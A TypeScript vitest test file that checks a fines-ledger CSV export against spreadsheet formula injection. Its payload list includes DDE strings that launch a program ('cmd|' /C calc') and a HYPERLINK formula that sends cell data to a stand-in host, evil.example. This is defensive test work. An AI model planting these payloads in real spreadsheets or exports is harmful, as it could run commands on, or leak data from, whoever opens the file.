import { describe, expect, it } from 'vitest';
import { ledgerCsv, neutralizeFormula } from './FinesLedger.js';
import type { FineEntry } from '../store/types.js';

/** OWASP's CSV injection payloads, and the line-break forms that slipped past the first guard. */
const PAYLOADS = [
  '=1+2',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  '+1+2',
  '-1+2',
  '@SUM(1,2)',
  '\t=1+2',
  '\r=1+2',
  '\n=1+2',
  '\r\n=1+2',
  ' =1+2',
  '\u3000=1+2',
  '＝1+2',
  "-2+3+cmd|' /C calc'!A0",
];

const fine = (person: string, reason: string): FineEntry => ({
  id: 'f',
  uniqueKey: 'k',
  recordId: 'r',
  formId: 'f',
  payerRole: 'technician',
  person,
  amount: 50,
  reason: { 'zh-CN': reason, en: reason },
  origin: 'rule',
  postedAt: '2025-10-01T00:00:00Z',
});

describe('neutralizeFormula', () => {
  for (const payload of PAYLOADS)
    it(`when a cell is ${JSON.stringify(payload)}, then it starts with an apostrophe`, () => {
      expect(neutralizeFormula(payload)).toBe(`'${payload}`);
    });

  it('when a cell is ordinary text or has = later on, then it is unchanged', () => {
    for (const text of ['王五', 'a=1', '50 元', '', 'x\n=1']) expect(neutralizeFormula(text)).toBe(text);
  });
});

describe('ledgerCsv', () => {
  it('when person and reason hold the payloads, then every such cell in the CSV starts with an apostrophe (inside its quotes)', () => {
    const csv = ledgerCsv(
      PAYLOADS.map((p) => fine(p, p)),
      'en',
      (r) => r,
    );
    for (const payload of PAYLOADS) {
      const quoted = `"'${payload.replace(/"/g, '""')}"`;
      const bare = `'${payload}`;
      expect(csv.includes(quoted) || csv.includes(`,${bare},`)).toBe(true);
    }
  });
});
